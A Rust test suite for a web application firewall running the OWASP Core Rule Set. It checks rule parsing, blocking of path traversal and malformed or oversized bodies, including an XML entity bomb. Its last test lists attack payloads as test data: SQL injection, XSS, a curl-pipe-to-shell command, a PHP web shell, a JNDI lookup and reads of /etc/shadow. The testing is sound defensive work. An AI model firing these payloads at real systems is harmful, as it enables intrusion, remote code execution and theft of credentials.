//! OWASP CRS v4, unmodified (../shared/corpora/crs, or `SEKISHO_CORPORA`; skipped, saying so,
//! when absent): every rule file and the setup example parse with no error.

#![allow(clippy::unwrap_used)]

use std::path::PathBuf;

use sekisho_waf::operators::Simple;
use sekisho_waf::{parse_file, DirectiveKind};

#[path = "../../../tests/common/public_corpora.rs"]
mod public_corpora;
use public_corpora::corpus;

#[path = "../../../benches/common/waf_crs.rs"]
mod waf_crs;

#[test]
fn every_crs_file_parses_unmodified() {
    let Some(dir) = corpus("crs") else {
        return;
    };
    let mut files: Vec<PathBuf> = std::fs::read_dir(dir.join("rules"))
        .unwrap_or_else(|e| panic!("{}: {e} (set SEKISHO_CORPORA)", dir.display()))
        .map(|e| e.unwrap().path())
        .filter(|p| {
            let n = p.file_name().unwrap().to_string_lossy();
            n.ends_with(".conf") || n.ends_with(".conf.example")
        })
        .collect();
    files.push(dir.join("crs-setup.conf.example"));
    files.sort();
    let (mut rules, mut chained, mut markers) = (0, 0, 0);
    let mut ids = std::collections::HashSet::new();
    for f in &files {
        let d = parse_file(f).unwrap_or_else(|e| panic!("{e}"));
        for x in d {
            match x.kind {
                DirectiveKind::Rule(r) => {
                    rules += 1;
                    let mut c = Some(&r);
                    while let Some(n) = c {
                        // Operators with parameters compiled at load (byte ranges, IP lists).
                        Simple::compile(&n.operator)
                            .unwrap_or_else(|e| panic!("{}:{}: {e}", f.display(), n.line));
                        chained += usize::from(!std::ptr::eq(n, &r));
                        c = n.chained.as_deref();
                    }
                    assert!(
                        ids.insert(r.id().unwrap()),
                        "duplicate id in {}",
                        f.display()
                    );
                }
                DirectiveKind::Action(a) => {
                    let id = a
                        .iter()
                        .find(|a| a.name == "id")
                        .and_then(|a| a.value.clone());
                    assert!(id.is_some(), "SecAction without id in {}", f.display());
                }
                DirectiveKind::Marker(_) => markers += 1,
                _ => {}
            }
        }
    }
    println!(
        "CRS: {} files, {rules} rules (+{chained} chained), {markers} markers, 0 errors",
        files.len()
    );
    assert!(rules > 600, "{rules}");
    assert!(markers >= 30, "{markers}");
}

#[test]
fn crs_compiles_into_an_engine_and_scores_an_attack() {
    use sekisho_waf::engine::{RequestHead, Transaction, Waf};
    let Some(crs) = corpus("crs") else {
        return;
    };
    let t = std::time::Instant::now();
    let waf = Waf::load(&waf_crs::crs_files(&crs)).unwrap_or_else(|errs| {
        let list: Vec<String> = errs.iter().map(|e| e.to_string()).collect();
        panic!("{} errors:\n{}", list.len(), list.join("\n"))
    });
    let s = waf.summary();
    println!(
        "CRS engine: {} rules (+{} chained), {} markers, compiled in {:?}",
        s.rules,
        s.chained,
        s.markers,
        t.elapsed()
    );
    assert!(s.rules > 600, "{s:?}");
    // crs-setup's settings and 901's defaults run once at load; at paranoia level 1 the
    // gates of levels 2 to 4 in each rule file are decided there too.
    // The allowed methods, protocols, content types and restricted extensions and headers
    // are set there too: the operators that read them get their parameters at load.
    println!(
        "prelude {} rules, {} folded, {} operator parameters fixed",
        s.prelude, s.folded, s.constant_params
    );
    assert!(s.prelude >= 20, "{s:?}");
    assert!(s.folded >= 40, "{s:?}");
    assert!(s.constant_params >= 5, "{s:?}");
    let waf = std::sync::Arc::new(waf);
    let head = |uri: &str| RequestHead {
        method: "GET".into(),
        uri: uri.as_bytes().to_vec(),
        protocol: "HTTP/1.1".into(),
        headers: vec![
            (b"Host".to_vec(), b"localhost".to_vec()),
            (
                b"User-Agent".to_vec(),
                b"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0".to_vec(),
            ),
            (b"Accept".to_vec(), b"text/html".to_vec()),
        ],
        remote_addr: "127.0.0.1".into(),
        ..Default::default()
    };
    let run = |uri: &str| {
        let mut tx = Transaction::new(std::sync::Arc::clone(&waf), &head(uri));
        tx.request_headers();
        tx.request_body(b"", 0);
        tx.logging();
        tx
    };
    let benign = run("/index.html?page=2&sort=name");
    let fired: Vec<u64> = benign.matched_rules().iter().map(|m| m.id).collect();
    assert!(benign.intervention().is_none(), "benign blocked: {fired:?}");
    let attack = run("/?file=../../../../etc/passwd");
    let fired: Vec<u64> = attack.matched_rules().iter().map(|m| m.id).collect();
    println!("path traversal fired {fired:?}");
    assert!(
        fired.contains(&930100) || fired.contains(&930110),
        "{fired:?}"
    );
    assert_eq!(attack.intervention().map(|i| i.rule_id), Some(949110));
}

#[test]
fn hostile_bodies_get_bounded_work_and_a_verdict() {
    use sekisho_waf::engine::{RequestHead, Transaction, Waf};
    let Some(crs) = corpus("crs") else {
        return;
    };
    let waf = std::sync::Arc::new(Waf::load(&waf_crs::crs_files(&crs)).unwrap());
    let post = |ct: &str| RequestHead {
        method: "POST".into(),
        uri: b"/submit".to_vec(),
        protocol: "HTTP/1.1".into(),
        headers: vec![
            (b"Host".to_vec(), b"portal.example.jp".to_vec()),
            (b"User-Agent".to_vec(), b"Mozilla/5.0".to_vec()),
            (b"Accept".to_vec(), b"*/*".to_vec()),
            (b"Content-Type".to_vec(), ct.as_bytes().to_vec()),
        ],
        remote_addr: "10.0.0.1".into(),
        ..Default::default()
    };
    let run = |ct: &str, body: &[u8]| {
        let mut tx = Transaction::new(std::sync::Arc::clone(&waf), &post(ct));
        tx.request_headers();
        tx.request_body(body, body.len());
        tx
    };
    // 10,000 arguments: SecArgumentsLimit (1000) keeps the work bounded; CRS's argument count
    // rule (920380, max_num_args) is not enabled by default, the body error flag is set.
    let many: Vec<String> = (0..10_000).map(|i| format!("a{i}=x")).collect();
    let tx = run(
        "application/x-www-form-urlencoded",
        many.join("&").as_bytes(),
    );
    assert!(tx.evaluations() < 200_000, "{}", tx.evaluations());
    // A 1 MiB value and JSON nested 10,000 deep: a verdict, work linear in the input.
    let big = format!("q={}", "A".repeat(1 << 20));
    let tx = run("application/x-www-form-urlencoded", big.as_bytes());
    assert!(tx.evaluations() < 10_000, "{}", tx.evaluations());
    let deep = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    let tx = run("application/json", deep.as_bytes());
    let d = tx
        .decision()
        .expect("a body the processor cannot read is refused");
    assert_eq!((d.rule_id, d.status), (200002, 400), "{}", d.msg);
    // An XML entity bomb: refused by the parser with bounded expansion.
    let bomb = "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">]><l>&g;</l>";
    let tx = run("text/xml", bomb.as_bytes());
    assert_eq!(
        tx.decision().map(|d| d.rule_id),
        Some(200002),
        "entity expansion over budget"
    );
    // Broken multipart boundaries: the strict error CRS blocks on (920120/922 family).
    let tx = run(
        "multipart/form-data; boundary=xyz",
        b"--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--xyzzy\r\n",
    );
    let fired: Vec<u64> = tx.matched_rules().iter().map(|m| m.id).collect();
    let d = tx.decision().expect("broken multipart is refused");
    assert!(matches!(d.rule_id, 200002 | 200003), "{fired:?}");
}

/// The value memo (what links are known not to match a value, kept across transactions)
/// never changes what CRS decides: the same requests through a rule set with the memo and one
/// without give the same matched rules (variables, data, scores) and the same decision, the
/// second round too, when every value is already in the memo. Attack payloads are sent in
/// places where some rules do not match them before places where others do, beside benign
/// values the memo already holds.
#[test]
fn the_value_memo_never_changes_a_decision() {
    use sekisho_waf::engine::{RequestHead, Transaction, Waf};
    let Some(crs) = corpus("crs") else {
        return;
    };
    let files = waf_crs::crs_files(&crs);
    let with = std::sync::Arc::new(Waf::load(&files).unwrap());
    let mut off = Waf::load(&files).unwrap();
    off.set_value_memo(0);
    let without = std::sync::Arc::new(off);
    let payloads = [
        "patient record 12",
        "1' OR '1'='1",
        "1 union select password from users--",
        "<script>alert(1)</script>",
        "javascript:alert(document.cookie)",
        "../../../../etc/passwd",
        "; cat /etc/shadow",
        "$(curl http://203.0.113.9/x|sh)",
        "<?php system($_GET['c']); ?>",
        "${jndi:ldap://203.0.113.9/a}",
        "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "admin'--",
        "SELECT * FROM pg_sleep(5)",
        "http://203.0.113.9/shell.txt?",
        "{{7*7}}",
        "ward 3",
    ];
    let mut requests: Vec<(RequestHead, Vec<u8>)> = Vec::new();
    for p in payloads {
        let q = p.replace('%', "%25").replace(' ', "+").replace('&', "%26");
        let uri = format!("/portal/list?page=2&q={q}");
        requests.push((waf_crs::head("GET", &uri, &[]), Vec::new()));
        let cookie = format!("session=8f2a9c1d4b7e; pref={}", p.replace(';', ""));
        requests.push((
            waf_crs::head(
                "GET",
                "/portal/list?page=2",
                &[("X-Note", p), ("Cookie", &cookie)],
            ),
            Vec::new(),
        ));
        let form = format!("name=patient&note={q}&code=A00037");
        requests.push((form_post(&form), form.into_bytes()));
        requests.push((waf_crs::benign_get(), Vec::new()));
    }
    let run = |w: &std::sync::Arc<Waf>, (h, body): &(RequestHead, Vec<u8>)| {
        let mut tx = Transaction::new(std::sync::Arc::clone(w), h);
        tx.request_headers();
        tx.request_body(body, body.len());
        tx.response_headers(
            200,
            "HTTP/1.1",
            &[(b"Content-Type".to_vec(), b"text/html".to_vec())],
        );
        tx.response_body(b"<html><body>ok</body></html>");
        tx.logging();
        let rules: Vec<_> = tx
            .matched_rules()
            .iter()
            .map(|m| (m.id, m.variable.clone(), m.data.clone(), m.score))
            .collect();
        (rules, tx.decision().map(|d| (d.rule_id, d.status)))
    };
    let mut attacks = 0;
    for round in 0..2 {
        for (i, r) in requests.iter().enumerate() {
            let want = run(&without, r);
            let uri = String::from_utf8_lossy(&r.0.uri);
            assert_eq!(run(&with, r), want, "round {round}, request {i}: {uri}");
            attacks += usize::from(want.1.is_some());
        }
    }
    assert!(with.value_memo_len() > 50, "{}", with.value_memo_len());
    assert_eq!(without.value_memo_len(), 0);
    assert!(attacks >= 40, "only {attacks} requests were blocked");
}

fn form_post(body: &str) -> sekisho_waf::engine::RequestHead {
    let len = body.len().to_string();
    waf_crs::head(
        "POST",
        "/claims/submit",
        &[
            ("Content-Type", "application/x-www-form-urlencoded"),
            ("Content-Length", &len),
        ],
    )
}
